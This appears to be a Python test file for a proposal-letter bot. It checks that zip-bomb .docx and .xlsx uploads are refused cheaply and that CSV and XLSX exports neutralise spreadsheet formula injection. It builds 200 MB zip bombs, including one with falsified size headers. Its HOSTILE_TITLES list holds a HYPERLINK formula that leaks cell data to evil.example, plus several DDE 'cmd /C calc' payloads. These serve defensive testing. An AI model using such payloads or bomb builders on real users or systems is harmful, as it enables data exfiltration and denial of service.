"""Hostile documents (issue 11 deliverable 6): a zip-bomb .docx or .xlsx is refused before any parser inflates it,
in the letter reader, the sheet reader, the chat and the CLI; `parse-letter` refuses in one line; a CSV export runs
no formula in a spreadsheet program and still re-imports unchanged."""

from __future__ import annotations

import csv
import io
import os
import struct
import subprocess
import sys
import time
import tracemalloc
import zipfile
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime
from pathlib import Path

import docx
import openpyxl
import pytest

from bot.__main__ import main
from bot.files.archives import ArchiveLimits, ArchiveRefused, check_archive
from bot.letters.documents import DocumentError, read_document
from bot.sandbox.emulator import SentMessage
from bot.sandbox.harness import Sandbox
from bot.spreadsheets.columns import SpreadsheetError
from bot.spreadsheets.read import read_rows
from bot.spreadsheets.write import ExportRow, write_export
from config.settings import load_settings

BOMB_UNPACKED = 200 * 1024 * 1024
_CHUNK = b"<w:p><w:r><w:t>" + b"\xe5\xbb\xba\xe8\xae\xae" * 20 + b"</w:t></w:r></w:p>"  # 建议 …


def _package(real: bytes, bomb_part: str, unpacked: int) -> bytes:
    """``real`` (a .docx or .xlsx) with ``bomb_part`` replaced by ``unpacked`` bytes of repetitive XML, written in
    chunks so that the test never holds them."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(real)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            if info.filename != bomb_part:
                bomb.writestr(info.filename, source.read(info.filename))
        with bomb.open(bomb_part, "w") as entry:
            block = _CHUNK * (1024 * 1024 // len(_CHUNK))
            written = 0
            while written < unpacked:
                entry.write(block)
                written += len(block)
    return out.getvalue()


def _docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("关于第 018 号建议的答复")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _xlsx() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["地区", "机构", "届", "次", "编号", "标题"])
    sheet.append(["长宁区", "人大", 17, 5, "101", "关于增设社区食堂的建议"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.fixture(scope="module")
def docx_bomb() -> bytes:
    """A real .docx whose word/document.xml is 200 MB of XML."""
    return _package(_docx(), "word/document.xml", BOMB_UNPACKED)


@pytest.fixture(scope="module")
def xlsx_bomb() -> bytes:
    return _package(_xlsx(), "xl/worksheets/sheet1.xml", BOMB_UNPACKED)


def _lie_about_size(data: bytes, name: str, declared: int) -> bytes:
    """``data`` with ``name``'s uncompressed size in both its headers replaced by ``declared``."""
    patched = bytearray(data)
    encoded = name.encode()
    local = 0
    while (local := patched.find(b"PK\x03\x04", local)) >= 0:
        length = struct.unpack_from("<H", patched, local + 26)[0]
        if patched[local + 30 : local + 30 + length] == encoded:
            struct.pack_into("<I", patched, local + 22, declared)
        local += 4
    central = 0
    while (central := patched.find(b"PK\x01\x02", central)) >= 0:
        length = struct.unpack_from("<H", patched, central + 28)[0]
        if patched[central + 46 : central + 46 + length] == encoded:
            struct.pack_into("<I", patched, central + 24, declared)
        central += 4
    return bytes(patched)


def _refusal(call: Callable[[], object]) -> tuple[float, int]:
    """Seconds and peak bytes (Python allocations) that ``call()`` took to raise."""
    tracemalloc.start()
    tracemalloc.reset_peak()
    started = time.perf_counter()
    try:
        call()
    except (DocumentError, SpreadsheetError, ArchiveRefused):
        pass
    else:
        raise AssertionError("not refused")
    finally:
        seconds = time.perf_counter() - started
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return seconds, peak


# --- the check itself ---------------------------------------------------------------------------------------


def test_check_archive_within_limits_gives_entry_names() -> None:
    names = check_archive(_docx())
    assert "word/document.xml" in names and "[Content_Types].xml" in names


def test_check_archive_bomb_refused_as_too_large_unpacked(docx_bomb: bytes) -> None:
    assert len(docx_bomb) < 1024 * 1024  # a small upload …
    with pytest.raises(ArchiveRefused) as caught:
        check_archive(docx_bomb)
    assert caught.value.reason == "too_large_unpacked"  # … that would unpack to 200 MB


def test_check_archive_too_many_entries_refused_from_the_end_record() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(11):
            archive.writestr(f"part{i}.xml", "<x/>")
    with pytest.raises(ArchiveRefused) as caught:
        check_archive(out.getvalue(), ArchiveLimits(max_entries=10))
    assert caught.value.reason == "too_many_entries"
    assert check_archive(out.getvalue(), ArchiveLimits(max_entries=11))


def test_check_archive_not_a_zip_refused_as_corrupt() -> None:
    with pytest.raises(ArchiveRefused) as caught:
        check_archive(b"PK\x03\x04 but nothing after")
    assert caught.value.reason == "corrupt"


def test_archive_limits_come_from_the_settings() -> None:
    settings = load_settings(archive_max_bytes=2 * 1024 * 1024, archive_max_entries=100)
    assert ArchiveLimits.of(settings) == ArchiveLimits(max_unpacked_bytes=2 * 1024 * 1024, max_entries=100)
    assert ArchiveLimits.of(load_settings()) == ArchiveLimits(50 * 1024 * 1024, 10_000)


def test_check_archive_entry_lying_about_its_size_refused_without_inflating_it(docx_bomb: bytes) -> None:
    """The directory of this one looks harmless (4 KB); zipfile alone would inflate all 200 MB to find out."""
    liar = _lie_about_size(docx_bomb, "word/document.xml", 4096)
    tracemalloc.start()
    try:
        with pytest.raises(ArchiveRefused) as caught:
            check_archive(liar)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert caught.value.reason == "too_large_unpacked" and "4096" in caught.value.detail
    assert peak < 4 * 1024 * 1024


def test_check_archive_damaged_deflate_stream_refused_as_corrupt() -> None:
    data = bytearray(_docx())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/document.xml")
    begin = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[begin : begin + 8] = b"\xff" * 8
    with pytest.raises(ArchiveRefused) as caught:
        check_archive(bytes(data))
    assert caught.value.reason == "corrupt"


# --- the readers ----------------------------------------------------------------------------------------------


def test_read_document_docx_bomb_refused_fast_and_small(docx_bomb: bytes) -> None:
    """The acceptance figure: the 200 MB bomb is refused in under 2 s and under 200 MB of memory."""
    seconds, peak = _refusal(lambda: read_document("letter.docx", docx_bomb))
    assert seconds < 2.0
    assert peak < 200 * 1024 * 1024
    with pytest.raises(DocumentError) as caught:
        read_document("letter.docx", docx_bomb)
    assert caught.value.code == "unpacks_too_large"
    assert "压缩炸弹" in caught.value.message("zh") and "zip bomb" in caught.value.message("en")


def test_read_document_docx_bomb_lying_about_its_size_refused_fast_and_small(docx_bomb: bytes) -> None:
    liar = _lie_about_size(docx_bomb, "word/document.xml", 4096)
    seconds, peak = _refusal(lambda: read_document("letter.docx", liar))
    assert seconds < 2.0 and peak < 200 * 1024 * 1024
    with pytest.raises(DocumentError) as caught:
        read_document("letter.docx", liar)
    assert caught.value.code == "unpacks_too_large"


def test_read_document_docx_within_configured_limits_still_read() -> None:
    assert "第 018 号" in read_document("letter.docx", _docx(), limits=ArchiveLimits(max_unpacked_bytes=1024 * 1024))


def test_read_document_docx_over_configured_limit_refused() -> None:
    with pytest.raises(DocumentError) as caught:
        read_document("letter.docx", _docx(), limits=ArchiveLimits(max_unpacked_bytes=1000))
    assert caught.value.code == "unpacks_too_large"


def test_read_rows_xlsx_bomb_refused_fast_and_small(xlsx_bomb: bytes) -> None:
    seconds, peak = _refusal(lambda: read_rows("items.xlsx", xlsx_bomb))
    assert seconds < 2.0 and peak < 200 * 1024 * 1024
    with pytest.raises(SpreadsheetError) as caught:
        read_rows("items.xlsx", xlsx_bomb)
    assert "压缩炸弹" in caught.value.message_zh and "zip bomb" in caught.value.message_en


def test_read_rows_xlsx_with_too_many_entries_refused() -> None:
    with pytest.raises(SpreadsheetError) as caught:
        read_rows("items.xlsx", _xlsx(), limits=ArchiveLimits(max_entries=3))
    assert "zip bomb" in caught.value.message_en
    assert read_rows("items.xlsx", _xlsx())[0].values["number"] == "101"


# --- the chat -------------------------------------------------------------------------------------------------

AT = datetime(2024, 4, 20, 1, 0, tzinfo=UTC)


@pytest.fixture
async def admin(sqlite_url: str) -> AsyncIterator[Sandbox]:
    async with Sandbox(load_settings(database_url=sqlite_url), at=AT) as box:
        await box.load_demo()
        await box.use("admin")
        yield box
    assert box.emulator.violations == []


async def _send(box: Sandbox, name: str, data: bytes) -> list[SentMessage]:
    user = box.emulator.find_user(box.role.label)
    assert user is not None
    return await box.feed(box.emulator.document_update(user, name, data, None))


async def test_chat_docx_bomb_from_admin_refused_politely(admin: Sandbox, docx_bomb: bytes) -> None:
    [answer] = await _send(admin, "答复函.docx", docx_bomb)
    assert "压缩炸弹" in answer.text and "没有读取" in answer.text


async def test_chat_xlsx_bomb_from_admin_refused_politely(admin: Sandbox, xlsx_bomb: bytes) -> None:
    [answer] = await _send(admin, "items.xlsx", xlsx_bomb)
    assert "items.xlsx" in answer.text and "压缩炸弹" in answer.text
    [menu] = await admin.say("/settings")
    assert menu.text  # the bot goes on answering


# --- parse-letter ---------------------------------------------------------------------------------------------

SEED = Path(__file__).parent / "fixtures" / "000_22e5c766df40d68a.txt"


def _refused(capsys: pytest.CaptureFixture[str], path: Path) -> str:
    """``parse-letter PATH``'s one line on stderr, once it exited 1 and printed nothing else."""
    assert main(["parse-letter", str(path)]) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    lines = captured.err.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"parse-letter: {path}: ")
    assert "Traceback" not in captured.err
    return lines[0]


def test_parse_letter_eleven_megabytes_refused_in_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "big.pdf"
    with path.open("wb") as handle:
        handle.truncate(11 * 1024 * 1024)
    assert "larger than 10 MB" in _refused(capsys, path)


def test_parse_letter_zip_bomb_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], docx_bomb: bytes
) -> None:
    path = tmp_path / "bomb.docx"
    path.write_bytes(docx_bomb)
    line = _refused(capsys, path)
    assert "压缩炸弹" in line and "zip bomb" in line


def test_parse_letter_archive_limit_comes_from_the_environment(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "letter.docx"
    path.write_bytes(_package(_docx(), "word/document.xml", 2 * 1024 * 1024))  # 2 MB of XML: fine by default
    monkeypatch.setenv("PROPOSAL_BOT_ARCHIVE_MAX_BYTES", str(1024 * 1024))
    assert "zip bomb" in _refused(capsys, path)


def test_parse_letter_text_that_is_no_letter_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "notes.txt"
    path.write_text("购物清单：牛奶、面包、鸡蛋。\n明天下午三点去公园散步。\n", encoding="utf-8")
    assert "not a reply letter" in _refused(capsys, path)


@pytest.mark.parametrize(
    ("name", "data", "phrase"),
    [
        ("scan.png", b"\x89PNG\r\n\x1a\n" + bytes(64), "Unsupported file type"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64), "Unsupported file type"),
        ("broken.docx", b"PK\x03\x04" + bytes(64), "damaged"),
        ("junk.txt", bytes(range(256)) * 8, "not text"),
    ],
    ids=["unknown-type", "legacy-doc", "damaged-docx", "binary"],
)
def test_parse_letter_unreadable_or_unknown_file_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, data: bytes, phrase: str
) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    assert phrase in _refused(capsys, path)


def test_parse_letter_a_directory_or_missing_file_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "cannot open the file" in _refused(capsys, tmp_path)
    assert "cannot open the file" in _refused(capsys, tmp_path / "missing.docx")


def test_parse_letter_real_process_prints_one_line_and_no_traceback(tmp_path: Path) -> None:
    """The installed command, not only main(): an 11 MB file gives exit 1 and one line on stderr."""
    path = tmp_path / "big.txt"
    with path.open("wb") as handle:
        handle.truncate(11 * 1024 * 1024)
    done = subprocess.run(
        [sys.executable, "-m", "bot", "parse-letter", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PROPOSAL_BOT_LOG_LEVEL": "WARNING"},
        check=False,
    )
    assert done.returncode == 1
    assert done.stdout == ""
    assert done.stderr.splitlines() == [
        f"parse-letter: {path}: 文件超过 10 MB，无法处理。 / The file is larger than 10 MB."
    ]


def test_parse_letter_real_letter_still_parsed(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["parse-letter", str(SEED)]) == 0
    assert "编号 number: 018" in capsys.readouterr().out


# --- CSV export -----------------------------------------------------------------------------------------------

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
    "关于增设社区食堂的建议",
    "C-2 号地块",
]


def _hostile_rows() -> list[ExportRow]:
    return [
        ExportRow(
            region="长宁区",
            body="人大",
            term=17,
            sitting=5,
            number=f"{i + 1:03d}",
            title=title,
            deputies=("@王建国",),
            state="registered",
        )
        for i, title in enumerate(HOSTILE_TITLES)
    ]


def test_csv_export_no_cell_starts_a_formula(tmp_path: Path) -> None:
    """OWASP's rule: a cell starting with =, +, -, @, tab or CR gets a leading ' and is shown as text."""
    path = tmp_path / "items.csv"
    write_export(path, _hostile_rows())
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    header, *rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")))
    titles = [row[header.index("标题")] for row in rows]
    assert titles[:5] == ["'" + t for t in HOSTILE_TITLES[:5]]
    assert titles[5:] == ["''=already quoted", "关于增设社区食堂的建议", "C-2 号地块"]


def test_csv_export_reimports_the_titles_unchanged(tmp_path: Path) -> None:
    """The reader drops the neutralising ' again, so a CSV export round-trips exactly."""
    path = tmp_path / "items.csv"
    write_export(path, _hostile_rows())
    rows = read_rows(path.name, path.read_bytes())
    assert [r.values["title"] for r in rows] == HOSTILE_TITLES
    assert {r.values["deputies"] for r in rows} == {"@王建国"}


def test_xlsx_export_keeps_hostile_titles_as_plain_text(tmp_path: Path) -> None:
    path = tmp_path / "items.xlsx"
    write_export(path, _hostile_rows())
    sheet = openpyxl.load_workbook(path).worksheets[0]
    column = [c.value for c in sheet[1]].index("标题") + 1
    cells = [sheet.cell(row=i + 2, column=column) for i in range(len(HOSTILE_TITLES))]
    assert [c.value for c in cells] == HOSTILE_TITLES
    assert {c.data_type for c in cells} == {"s"}  # text cells: no formula runs
    assert [r.values["title"] for r in read_rows(path.name, path.read_bytes())] == HOSTILE_TITLES


def test_csv_written_by_hand_with_a_leading_quote_before_plain_text_keeps_it() -> None:
    data = "地区,机构,届,次,编号,标题\n长宁区,人大,17,5,001,'90 后创业者的建议\n".encode()
    assert read_rows("items.csv", data)[0].values["title"] == "'90 后创业者的建议"
